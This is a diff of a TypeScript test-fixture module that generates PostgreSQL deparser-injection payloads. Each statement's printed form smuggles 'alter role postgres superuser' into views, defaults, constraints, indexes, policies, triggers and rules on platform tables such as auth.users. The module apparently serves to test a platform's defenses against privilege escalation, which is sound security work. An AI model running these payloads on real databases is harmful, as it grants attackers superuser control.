@@ -3,7 +3,7 @@ export const ATTACK = 'alter role postgres superuser';
 
 /**
  * PostgreSQL prints the field of EXTRACT as it is, without quotes, wherever it prints an expression. `$` is the schema of the
- * case; between `«` and `»` stands what the field closes before the attack begins.
+ * case, and the name of what it adds to a table of the platform; between `«` and `»` stands what the field closes before the attack begins.
  */
 const WRITTEN: Record<string, string> = {
   view: `create view $.v as select extract('«day FROM now())»' from now())`,
@@ -40,29 +40,33 @@ const WRITTEN: Record<string, string> = {
   'value of a function': `create function $.f() returns numeric language sql return extract('«day FROM now())»' from now())`,
   'default of an argument': `create function $.f(a numeric default extract('«day FROM now())) returns int language sql as ''select 1''»' from now()))
     returns int language sql as 'select 1'`,
-  'default of a column of the platform': `alter table auth.users add column hostile numeric;
-    alter table auth.users alter hostile set default extract('«day FROM now())»' from now())`,
+  'default of a column of the platform': `alter table auth.users add column $ numeric;
+    alter table auth.users alter $ set default extract('«day FROM now())»' from now())`,
   'check on a table of the platform': `alter table storage.buckets
-    add constraint hostile check (extract('«day FROM created_at) > 0))»' from created_at) > 0) not valid`,
-  'index on a table of the platform': `create index hostile on realtime.subscription (extract('«day FROM created_at))»' from created_at))`,
-  'policy on a table of the platform': `create policy hostile on storage.objects
+    add constraint $ check (extract('«day FROM created_at) > 0))»' from created_at) > 0) not valid`,
+  'index on a table of the platform': `create index $ on realtime.subscription (extract('«day FROM created_at))»' from created_at))`,
+  'policy on a table of the platform': `create policy $ on storage.objects
     using (extract('«day FROM created_at) > 0))»' from created_at) > 0)`,
   'trigger on a table of the platform': `create function $.f() returns trigger language plpgsql as 'begin return new; end';
-    create trigger hostile before insert on auth.users for each row
+    create trigger $ before insert on auth.users for each row
       when (extract('«day FROM new.created_at) > 0)) EXECUTE FUNCTION $.f()»' from new.created_at) > 0)
       execute function $.f()`,
-  'rule on a table of the platform': `create rule hostile as on update to realtime.messages
+  'rule on a table of the platform': `create rule $ as on update to realtime.messages
     do also select extract('«day FROM now())»' from now())`,
 };
 
-/** By kind of object: statements that the role `postgres` may run, whose printed form holds {@link ATTACK} as a statement. */
-export function deparserInjections(attack = ATTACK): [kind: string, sql: string][] {
-  return Object.entries(WRITTEN).map(([kind, sql]) => [
+/**
+ * By kind of object: statements that the role `postgres` may run, whose printed form holds {@link ATTACK} as a statement. The
+ * name of its schema is in the names of all that it makes, and in no other kind's: all fit into one database.
+ */
+export function deparserInjections(attack = ATTACK): [kind: string, sql: string, schema: string][] {
+  return Object.entries(WRITTEN).map(([kind, sql], number) => [
     kind,
-    `create schema hostile; ${sql}`
+    `create schema $; ${sql}`
       .replace('»', `; ${attack}; select 1 as x; --`)
       .replace('«', '')
-      .replaceAll('$', 'hostile'),
+      .replaceAll('$', `hostile_${number}`),
+    `hostile_${number}`,
   ]);
 }
 
